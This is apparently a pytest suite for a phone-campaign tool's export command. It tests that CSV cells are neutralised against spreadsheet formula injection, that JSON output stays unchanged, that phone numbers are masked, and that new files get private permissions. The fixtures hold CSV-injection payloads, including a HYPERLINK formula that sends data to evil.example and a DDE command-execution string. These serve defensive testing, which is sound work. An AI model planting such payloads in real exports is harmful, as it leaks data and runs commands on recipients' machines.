"""Exports are safe to open in a spreadsheet, flat in CSV, and private on disk.

Cells come from contact files and from Exotel; a cell starting with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is a formula to Excel, LibreOffice and Sheets (CSV
injection). The journal here is written directly, with hostile values where a contact
file or an Exotel answer could put them.
"""

from __future__ import annotations

import csv
import io
import json
import re
import stat
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from campaigner.cli import main
from campaigner.commands.export import CALL_COLUMNS, FIXED, safe_cell
from campaigner.store.journal import CallResult, ContactUpdate, Journal

FORMULAS = {
    "note": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+SUM(1,2)",
    "minus": "-2+3",
    "at": "@SUM(1)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "plain": "ORD-1",
}
ASHA, RAVI, MEENA = "+919876543001", "+919876543002", "+919876543003"
AGENT = "+919900000001"


@pytest.fixture
def campaign(tmp_path: Path) -> Path:
    """A campaign whose journal has: Asha called twice, Ravi once, Meena never; 2 bad rows."""
    path = tmp_path / "exp.yaml"
    path.write_text("name: exp\n")
    with Journal.open(tmp_path / ".campaigner" / "exp.sqlite3") as journal:
        journal.set_meta("settings", json.dumps({"schedule": {"timezone": "Asia/Kolkata"}}))
        journal.sync_contacts(
            [
                (ASHA, "98765 43001", "people.csv:2", FORMULAS),
                (RAVI, "98765 43002", "people.csv:3", {**FORMULAS, "note": "fine"}),
                (MEENA, "98765 43003", "people.csv:4", {**FORMULAS, "note": "-"}),
            ],
            1795404600.0,
        )
        journal.record_skipped_rows(
            [
                ("people.csv:5", "=cmd|' /C calc'!A0", "invalid", "not a phone number"),
                ("people.csv:6", "+91 98765 43001", "duplicate", "same number as line 2"),
            ]
        )
        ids = {c.phone: c.id for c in journal.due_contacts(1795404601.0, 10)}
        n = 0
        for phone, attempts in ((ASHA, 2), (RAVI, 1)):
            for attempt in range(1, attempts + 1):
                n += 1
                at = 1795404600.0 + 600 * n
                call = journal.begin_call(
                    ids[phone], attempt, api="v1", caller_id="+912241499102", agent=AGENT,
                    request={}, at=at,
                )  # fmt: skip
                journal.call_placed(call, f"sid{n}", "in-progress", at + 1)
                done = attempt == attempts
                journal.finish_call(
                    call,
                    CallResult(
                        "connected" if done else "busy",
                        "=1+1 from Exotel",  # an Exotel field, hostile too
                        "completed" if done else "busy",
                        "callback",
                        at + 60,
                        talk_time=42 if done else None,
                        recording_url="https://recordings.exotel.com/x.mp3" if done else None,
                    ),
                    ContactUpdate(
                        ids[phone], attempt, 0, outcome="connected" if done else None,
                        reason="completed" if done else "busy", next_at=at + 300,
                    ),
                )  # fmt: skip
    return path


def export(campaign: Path, capsys: pytest.CaptureFixture[str], *args: str) -> str:
    capsys.readouterr()
    assert main(["export", str(campaign), *args]) == 0
    return capsys.readouterr().out


def test_csv_has_one_row_per_call_with_flat_columns(
    campaign: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = list(csv.reader(io.StringIO(export(campaign, capsys, "--format", "csv"))))
    header, body = rows[0], [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert header == [*FIXED, *FORMULAS, *CALL_COLUMNS]
    assert "calls" not in header
    # Asha: two calls, two rows; Ravi one; Meena (no call) one; each skipped row one
    assert [(r["phone"], r["call_sid"], r["call_attempt"]) for r in body] == [
        (ASHA, "sid1", "1"),
        (ASHA, "sid2", "2"),
        (RAVI, "sid3", "1"),
        (MEENA, "", ""),
        ("'=cmd|' /C calc'!A0", "", ""),
        ("'+91 98765 43001", "", ""),
    ]
    first, second = body[0], body[1]
    assert (first["call_outcome"], first["call_status"], first["call_talk_time"]) == (
        "busy",
        "busy",
        "",
    )
    assert (second["call_outcome"], second["call_talk_time"]) == ("connected", "42")
    assert second["call_recording_url"] == "https://recordings.exotel.com/x.mp3"
    assert second["call_agent"] == AGENT
    assert second["call_adopted"] == "false"
    # the contact's own columns repeat on each of its calls' rows
    assert first["outcome"] == second["outcome"] == "connected"
    assert first["attempts"] == second["attempts"] == "2"


def test_every_formula_like_cell_is_neutralised(
    campaign: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = list(csv.DictReader(io.StringIO(export(campaign, capsys, "--format", "csv"))))
    asha = rows[0]
    for name, value in FORMULAS.items():
        expected = value if name == "plain" else "'" + value
        assert asha[name] == expected, name
    assert rows[3]["note"] == "'-"
    assert asha["call_reason"] == "'=1+1 from Exotel"
    # a plain E.164 number is data (and the join key): left as it is
    assert asha["phone"] == ASHA
    assert asha["call_caller_id"] == "+912241499102"
    # nothing in the whole file starts a formula, except plain E.164 numbers
    for row in rows:
        for cell in row.values():
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                assert re.fullmatch(r"\+[1-9]\d{6,14}", cell), repr(cell)


def test_the_cell_rule() -> None:
    assert safe_cell("=col") == "'=col"
    assert safe_cell("+919876543210") == "+919876543210"
    assert safe_cell("+91987654321099999") == "'+91987654321099999"  # too long for E.164
    assert safe_cell("+0919876543210") == "'+0919876543210"
    assert safe_cell(-5) == -5  # numbers are numbers, not text a spreadsheet parses
    assert safe_cell(None) == ""


def test_json_is_unchanged_nested_and_unescaped(
    campaign: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    records = json.loads(export(campaign, capsys, "--format", "json"))
    assert [r["phone"] for r in records] == [
        ASHA,
        RAVI,
        MEENA,
        "=cmd|' /C calc'!A0",
        "+91 98765 43001",
    ]
    assert records[0]["variables"] == FORMULAS  # JSON is data, not a spreadsheet
    assert [c["sid"] for c in records[0]["calls"]] == ["sid1", "sid2"]
    assert records[0]["calls"][0]["reason"] == "=1+1 from Exotel"
    lines = export(campaign, capsys, "--format", "jsonl").splitlines()
    assert [json.loads(line) for line in lines] == records


def test_mask_hides_numbers_as_reports_do(
    campaign: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    records = json.loads(export(campaign, capsys, "--format", "json", "--mask"))
    assert records[0]["phone"] == "+91••••••3001"
    assert records[0]["calls"][1]["agent"] == "+91••••••0001"
    assert records[0]["calls"][1]["caller_id"] == "+912241499102"  # the company's own
    assert records[4]["phone"] == "+•• ••••• •3001"  # a skipped row, as written, masked
    rows = list(csv.DictReader(io.StringIO(export(campaign, capsys, "--mask"))))
    assert rows[0]["phone"] == "'+91••••••3001"  # masked text is not E.164: neutralised
    assert all(ASHA not in cell for row in rows for cell in row.values())


def test_an_export_file_is_private(campaign: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = campaign.parent / "outcomes.csv"
    out.write_text("old")
    out.chmod(0o644)
    assert main(["export", str(campaign), "-o", str(out)]) == 0
    assert oct(stat.S_IMODE(out.stat().st_mode)) == "0o644"  # an existing file keeps its mode
    fresh = campaign.parent / "fresh.csv"
    assert main(["export", str(campaign), "-o", str(fresh)]) == 0
    assert oct(stat.S_IMODE(fresh.stat().st_mode)) == "0o600"
    assert fresh.read_text(encoding="utf-8") == out.read_text(encoding="utf-8")


@given(st.text(max_size=40))
def test_no_cell_starts_a_formula_and_nothing_is_lost(text: str) -> None:
    cell = safe_cell(text)
    assert isinstance(cell, str)
    if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        assert re.fullmatch(r"\+[1-9]\d{6,14}", cell)
    assert cell == text or cell == "'" + text  # the value is still there, whole
